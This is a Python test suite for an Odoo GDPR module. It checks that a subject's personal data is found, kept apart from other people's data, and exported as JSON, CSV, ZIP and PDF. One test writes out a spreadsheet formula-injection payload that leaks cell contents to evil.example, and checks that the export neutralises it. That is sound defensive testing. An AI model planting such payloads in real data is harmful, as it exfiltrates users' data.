# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import base64
import csv
import io
import json
import zipfile

from odoo_test_helper import FakeModelLoader

from odoo import Command
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .common import GdprCase


@tagged("post_install", "-at_install", "gdpr_crm")
class TestPersonalData(GdprCase):
    """The personal-data engine finds all of a subject's data, and only theirs."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.loader = FakeModelLoader(cls.env, cls.__module__)
        cls.loader.backup_registry()
        from .gdpr_fake_models import GdprTestLoyaltyCard

        cls.loader.update_registry((GdprTestLoyaltyCard,))
        cls.engine = cls.env["gdpr.personal.data"]
        Partner = cls.env["res.partner"]
        Lead = cls.env["crm.lead"]
        cls.jo = Partner.create({"name": "Jo Subject", "email": "jo@example.com", "phone": "+33 6 12 34 56 78"})
        cls.jo_child = Partner.create(
            {"name": "Jo Subject, Billing", "parent_id": cls.jo.id, "type": "invoice", "email": "billing@jo.example"}
        )
        cls.joe = Partner.create({"name": "Joe Other", "email": "joe@example.com", "phone": "+33 6 98 76 54 32"})
        cls.acme = Partner.create({"name": "Acme Corp", "is_company": True})
        cls.lead_partner = Lead.create({"name": "Opportunity A", "partner_id": cls.jo.id})
        cls.lead_email = Lead.create({"name": "Web form 42", "email_from": '"Jo S." <JO@example.com>'})
        cls.lead_joe = Lead.create(
            {"name": "Opportunity B", "partner_id": cls.joe.id, "description": "<p>Write to joe@example.com</p>"}
        )
        cls.lead_quote = Lead.create(
            {"name": "Referral", "description": "<p>Referred by a friend, call 06.12.34.56.78</p>"}
        )
        cls.msg_authored = cls.lead_joe.message_post(
            body="Hello from Jo", author_id=cls.jo.id, message_type="comment", subtype_xmlid="mail.mt_comment"
        )
        cls.note_quote = cls.acme.with_user(cls.user_salesman).message_post(
            body="<p>Met Jo at the fair, her address is <b>jo@example.com</b>.</p>",
            message_type="comment",
            subtype_xmlid="mail.mt_note",
        )
        cls.note_joe = cls.acme.message_post(
            body="<p>Joe's address: joe@example.com</p>", message_type="comment", subtype_xmlid="mail.mt_note"
        )
        cls.note_on_jo = cls.jo.message_post(body="<p>Called back</p>", subtype_xmlid="mail.mt_note")
        cls.msg_to_jo = cls.acme.message_post(
            body="<p>Your quote</p>", partner_ids=cls.jo.ids, message_type="comment", subtype_xmlid="mail.mt_note"
        )
        cls.jo_duplicate = Partner.create({"name": "J. Subject", "email": "JO@Example.com"})
        cls.activity = cls.lead_partner.activity_schedule("mail.mail_activity_data_call", summary="Call Jo")
        cls.attachment = cls.env["ir.attachment"].create(
            {"name": "id card.txt", "raw": b"Jo's identity card", "res_model": "res.partner", "res_id": cls.jo.id}
        )
        cls.lead_joe.message_subscribe(partner_ids=cls.jo.ids)
        cls.follower = cls.env["mail.followers"].search(
            [("res_model", "=", "crm.lead"), ("res_id", "=", cls.lead_joe.id), ("partner_id", "=", cls.jo.id)]
        )
        cls.jo_user = cls.env["res.users"].create(
            {
                "login": "jo.portal",
                "partner_id": cls.jo.id,
                "groups_id": [Command.set(cls.env.ref("base.group_portal").ids)],
            }
        )
        Card = cls.env["gdpr.test.loyalty.card"]
        cls.card_partner = Card.create({"name": "Card 1", "holder_id": cls.jo.id})
        cls.card_email = Card.create({"name": "Card 2", "email": "Jo@Example.com"})
        cls.card_joe = Card.create({"name": "Card 3", "email": "joe@example.com"})

    @classmethod
    def tearDownClass(cls):
        cls.loader.restore_registry()
        super().tearDownClass()

    def test_find_everything_about_a_partner(self):
        found = self.engine._gdpr_find(partners=self.jo)
        self.assertEqual(
            set(found["res.partner"]),
            {self.jo.id, self.jo_child.id, self.jo_duplicate.id},
            "the contact, its child contact, and the duplicate with the same address",
        )
        self.assertEqual(set(found["crm.lead"]), {self.lead_partner.id, self.lead_email.id, self.lead_quote.id})
        messages = set(found["mail.message"])
        self.assertIn(self.msg_authored.id, messages)
        self.assertIn(self.note_quote.id, messages, "a note by someone else quoting the email")
        self.assertIn(self.note_on_jo.id, messages, "the chatter of the subject's contact")
        self.assertIn(self.msg_to_jo.id, messages, "a message addressed to them (many2many)")
        self.assertNotIn(self.note_joe.id, messages)
        self.assertEqual(found["mail.activity"], self.activity.ids)
        self.assertIn(self.attachment.id, found["ir.attachment"])
        self.assertIn(self.follower.id, found["mail.followers"])
        self.assertEqual(set(found["gdpr.test.loyalty.card"]), {self.card_partner.id, self.card_email.id})
        self.assertEqual(found["res.users"], self.jo_user.ids)
        self.assertNotIn("gdpr.mention", found)

    def test_summary(self):
        found = self.engine._gdpr_find(partners=self.jo)
        summary = {line["model"]: line for line in self.engine._gdpr_find_summary(found)}
        self.assertEqual(summary["crm.lead"]["count"], len(found["crm.lead"]))
        self.assertEqual(summary["crm.lead"]["name"], "Lead/Opportunity")
        self.assertEqual(set(summary), set(found))

    def test_nobody_else(self):
        found = self.engine._gdpr_find(partners=self.jo)
        self.assertNotIn(self.joe.id, found["res.partner"])
        self.assertNotIn(self.acme.id, found["res.partner"])
        self.assertNotIn(self.lead_joe.id, found["crm.lead"])
        self.assertNotIn(self.card_joe.id, found["gdpr.test.loyalty.card"])
        # and the other way round
        found_joe = self.engine._gdpr_find(partners=self.joe)
        self.assertEqual(found_joe["res.partner"], self.joe.ids)
        self.assertEqual(found_joe["gdpr.test.loyalty.card"], self.card_joe.ids)
        self.assertNotIn(self.note_quote.id, found_joe["mail.message"])
        self.assertIn(self.note_joe.id, found_joe["mail.message"])

    def test_find_by_bare_email_and_phone(self):
        found = self.engine._gdpr_find(emails=[" JO@example.COM "])
        self.assertIn(self.jo.id, found["res.partner"], "the contact with that address is the subject")
        self.assertIn(self.lead_email.id, found["crm.lead"])
        self.assertIn(self.card_email.id, found["gdpr.test.loyalty.card"])
        found = self.engine._gdpr_find(phones=["0033 612 345 678"])
        self.assertEqual(found["res.partner"], self.jo.ids)
        # the lead of the contact holds the contact's phone too
        self.assertEqual(set(found["crm.lead"]), {self.lead_partner.id, self.lead_quote.id})
        self.assertEqual(self.engine._gdpr_find(), {})
        self.assertEqual(self.engine._gdpr_find(emails=["nobody@nowhere.example"]), {})

    def _count_queries(self, func):
        self.env.flush_all()
        before = self.env.cr.sql_log_count
        func()
        return self.env.cr.sql_log_count - before

    def test_find_is_set_based(self):
        """The number of queries does not depend on how much data the person has."""
        self.engine._gdpr_find(partners=self.jo)  # the registry is cached
        queries = self._count_queries(lambda: self.engine._gdpr_find(partners=self.jo))
        self.assertLessEqual(queries, 12)
        children = self.env["res.partner"].create(
            [{"name": f"Jo's colleague {i}", "parent_id": self.jo.id} for i in range(10)]
        )
        leads = self.env["crm.lead"].create([{"name": f"Deal {i}", "partner_id": self.jo.id} for i in range(30)])
        for lead in leads[:10]:
            lead.message_post(body="<p>Jo (jo@example.com) agreed</p>", subtype_xmlid="mail.mt_note")
        found = self.engine._gdpr_find(partners=self.jo)
        self.assertTrue(set(children.ids) <= set(found["res.partner"]))
        self.assertTrue(set(leads.ids) <= set(found["crm.lead"]))
        self.assertEqual(self._count_queries(lambda: self.engine._gdpr_find(partners=self.jo)), queries)

    def test_mention_index_follows_changes(self):
        found = self.engine._gdpr_find(emails=["joe@example.com"])
        self.assertIn(self.lead_joe.id, found["crm.lead"])
        self.lead_joe.description = "<p>No address any more</p>"
        self.note_joe.body = "<p>Now about jo@example.com</p>"
        found_joe = self.engine._gdpr_find(partners=self.joe)
        self.assertEqual(found_joe.get("crm.lead"), self.lead_joe.ids, "still found through its partner")
        self.assertNotIn(self.note_joe.id, found_joe["mail.message"])
        self.assertIn(self.note_joe.id, self.engine._gdpr_find(partners=self.jo)["mail.message"])
        Mention = self.env["gdpr.mention"]
        self.assertTrue(Mention.search([("res_model", "=", "mail.message"), ("res_id", "=", self.note_joe.id)]))
        note_id = self.note_joe.id
        self.note_joe.unlink()
        self.assertFalse(Mention.search([("res_model", "=", "mail.message"), ("res_id", "=", note_id)]))

    def test_backfill_cron(self):
        Mention = self.env["gdpr.mention"]
        self.env.cr.execute("DELETE FROM gdpr_mention")
        for model_name in Mention._gdpr_mention_sources():
            Mention._gdpr_set_watermark(model_name, 0)
        self.assertNotIn("mail.message", self.engine._gdpr_find(emails=["joe@example.com"]).get("mail.message", []))
        remaining = 1
        for _i in range(1000):
            done, remaining = Mention._gdpr_backfill_batch(batch_size=50)
            if not remaining:
                break
        self.assertEqual(remaining, 0)
        self.env.cr.execute("SELECT max(id) FROM mail_message")
        last_message_id = self.env.cr.fetchone()[0]
        self.assertEqual(Mention._gdpr_get_watermark("mail.message"), last_message_id)
        self.assertIn(self.note_joe.id, self.engine._gdpr_find(emails=["joe@example.com"])["mail.message"])
        rows = Mention.search_count([])
        # the cron has nothing left to do, and indexing again adds no duplicate
        self.env.ref("gdpr_crm.ir_cron_mention_index").method_direct_trigger()
        Mention._gdpr_index_records("mail.message", self.note_joe.ids)
        self.assertEqual(Mention.search_count([]), rows)

    def test_lookup_columns_are_indexed(self):
        cr = self.env.cr
        cr.execute("DROP INDEX gdpr_res_partner_email_normalized_idx")
        created = self.engine._gdpr_ensure_indexes()
        self.assertIn("res_partner.email_normalized", created)
        self.assertIn("gdpr_test_loyalty_card.holder_id", created, "a new model's many2one is indexed too")
        cr.execute("SELECT 1 FROM pg_indexes WHERE indexname = 'gdpr_res_partner_email_normalized_idx'")
        self.assertTrue(cr.fetchone())
        self.assertEqual(self.engine._gdpr_ensure_indexes(), [], "nothing left to index")

    def test_export_json(self):
        found = self.engine._gdpr_find(partners=self.jo)
        data = self.engine._gdpr_export_data(found)
        by_model = {m["model"]: m for m in data["models"]}
        self.assertEqual(set(by_model), set(found))
        self.assertEqual(data["record_count"], sum(len(ids) for ids in found.values()))
        partners = {r["id"]: r for r in by_model["res.partner"]["records"]}
        self.assertEqual(partners[self.jo.id]["values"]["email"], "jo@example.com")
        self.assertEqual(partners[self.jo_child.id]["values"]["parent_id"], [self.jo.id, "Jo Subject"])
        self.assertEqual(by_model["res.partner"]["fields"]["email"], "Email")
        self.assertNotIn("image_1920", by_model["res.partner"]["fields"], "binary fields are omitted")
        self.assertNotIn("password", by_model["res.users"]["fields"], "secrets are omitted")
        self.assertEqual(by_model["res.users"]["records"][0]["values"]["login"], "jo.portal")
        self.assertEqual(
            [r["id"] for r in by_model["gdpr.test.loyalty.card"]["records"]],
            sorted((self.card_partner | self.card_email).ids),
        )
        text = json.dumps(data)
        self.assertIn("her address is", text)
        self.assertIn("Call Jo", text)
        self.assertNotIn("joe@example.com", text)
        self.assertNotIn("Joe Other", text)

    def test_export_attachments(self):
        found = self.engine._gdpr_find(partners=self.jo)
        logs_before = self.env["gdpr.audit.log"].search_count([("event_type", "=", "dsar_export")])
        files = self.engine._gdpr_export_attachments(found, "DSR-TEST", res_model="res.partner", res_id=self.jo.id)
        self.assertEqual(
            sorted(files.mapped("name")), ["DSR-TEST.html", "DSR-TEST.json", "DSR-TEST.pdf", "DSR-TEST.zip"]
        )
        by_name = {f.name: f for f in files}
        data = json.loads(by_name["DSR-TEST.json"].raw)
        self.assertIn("crm.lead", [m["model"] for m in data["models"]])
        archive = zipfile.ZipFile(io.BytesIO(by_name["DSR-TEST.zip"].raw))
        names = set(archive.namelist())
        self.assertEqual({n for n in names if n.endswith(".csv")}, {f"{model}.csv" for model in found})
        self.assertEqual(archive.read(f"attachments/{self.attachment.id}-id_card.txt"), b"Jo's identity card")
        csv_partner = archive.read("res.partner.csv").decode("utf-8-sig")
        self.assertIn("jo@example.com", csv_partner)
        self.assertNotIn("joe@example.com", csv_partner)
        # in test mode Odoo renders the report as HTML (see TestPersonalDataReport for the PDF)
        self.assertIn(b"Your personal data", base64.b64decode(by_name["DSR-TEST.pdf"].datas))
        log = self.env["gdpr.audit.log"].search([("event_type", "=", "dsar_export")], limit=1)
        self.assertEqual(self.env["gdpr.audit.log"].search_count([("event_type", "=", "dsar_export")]), logs_before + 1)
        self.assertEqual(log.record_count, data["record_count"])
        self.assertNotIn("jo@example.com", log.description, "the log holds no personal values")

    def test_csv_cells_never_run_as_formulas(self):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        lead = self.env["crm.lead"].create({"name": formula, "partner_id": self.jo.id})
        found = self.engine._gdpr_find(partners=self.jo)
        files = self.engine._gdpr_export_attachments(found, "DSR-CSV")
        by_name = {f.name: f for f in files}
        archive = zipfile.ZipFile(io.BytesIO(by_name["DSR-CSV.zip"].raw))
        rows = list(csv.reader(io.StringIO(archive.read("crm.lead.csv").decode("utf-8-sig"))))
        name_col = rows[0].index("name")
        cells = {row[0]: row[name_col] for row in rows[2:]}
        self.assertEqual(cells[str(lead.id)], "'" + formula, "a spreadsheet shows it as text")
        # the machine-readable JSON keeps the exact value
        data = json.loads(by_name["DSR-CSV.json"].raw)
        leads = next(m for m in data["models"] if m["model"] == "crm.lead")
        self.assertIn(formula, [r["values"]["name"] for r in leads["records"]])


@tagged("post_install", "-at_install", "gdpr_crm")
class TestPersonalDataReport(HttpCase):
    """The PDF of an export renders through wkhtmltopdf (HttpCase: it fetches
    the report's assets from the test server)."""

    def test_pdf_renders(self):
        partner = self.env["res.partner"].create({"name": "Jo Subject", "email": "jo@example.com"})
        self.env["crm.lead"].create({"name": "Opportunity A", "partner_id": partner.id})
        engine = self.env["gdpr.personal.data"].with_context(force_report_rendering=True)
        # Debian's wkhtmltopdf (unpatched Qt) warns that it ignores the header
        # options; Odoo logs that as a warning, which is not our concern here.
        with mute_logger("odoo.addons.base.models.ir_actions_report"):
            files = engine._gdpr_export_attachments(engine._gdpr_find(partners=partner), "DSR-PDF")
        pdf = files.filtered(lambda f: f.name == "DSR-PDF.pdf")
        self.assertEqual(pdf.mimetype, "application/pdf")
        self.assertTrue(pdf.raw.startswith(b"%PDF"))
        self.assertGreater(len(pdf.raw), 2000)
